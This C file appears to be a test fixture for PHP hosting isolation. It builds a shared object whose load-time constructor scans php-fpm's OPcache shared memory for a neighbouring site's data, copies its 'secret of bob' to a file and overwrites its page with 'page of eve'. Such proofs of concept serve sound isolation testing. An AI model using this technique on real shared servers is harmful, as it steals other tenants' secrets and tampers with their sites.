/*
 * What a user would load into PHP: when it is mapped, it copies what it finds of
 * a neighbour out of OPcache's memory and changes the neighbour's page there. It
 * is built as a shared object by a test and put where a script could write it.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>

#define PAGE   4096u
#define AROUND (256u << 20) /* OPcache's memory lies within that of any string in it */

struct zend_string;
extern struct zend_string **zend_known_strings
	__attribute__((weak)); /* php-fpm's: interned in OPcache */

/* Reading by a system call: what is not mapped is an error, not a crash. */
static bool is_mapped(int pipe_end[2], const char *page)
{
	char byte;

	return write(pipe_end[1], page, 1) == 1 && read(pipe_end[0], &byte, 1) == 1;
}

static void mark(const char *path, const char *text, size_t len)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);

	if (fd >= 0) {
		(void)!write(fd, text, len);
		(void)close(fd);
	}
}

static void rob(char *from, size_t len)
{
	char *secret = memmem(from, len, "secret of bob", 13);
	char *page = memmem(from, len, "page of bob", 11);

	if (secret)
		mark("/data/stolen", secret, 13);
	if (page)
		memcpy(page, "page of eve", 11);
}

__attribute__((constructor)) static void loaded(void)
{
	int pipe_end[2];
	char *start, *from, *to;

	mark("/data/loaded", "x", 1);
	if (!&zend_known_strings || pipe(pipe_end) < 0)
		return;
	start = (char *)((uintptr_t)zend_known_strings[0] & ~(uintptr_t)(PAGE - 1));
	for (from = start; start - from < AROUND && is_mapped(pipe_end, from - PAGE);)
		from -= PAGE;
	for (to = start; to - start < AROUND && is_mapped(pipe_end, to);)
		to += PAGE;
	rob(from, (size_t)(to - from));
	(void)close(pipe_end[0]);
	(void)close(pipe_end[1]);
}
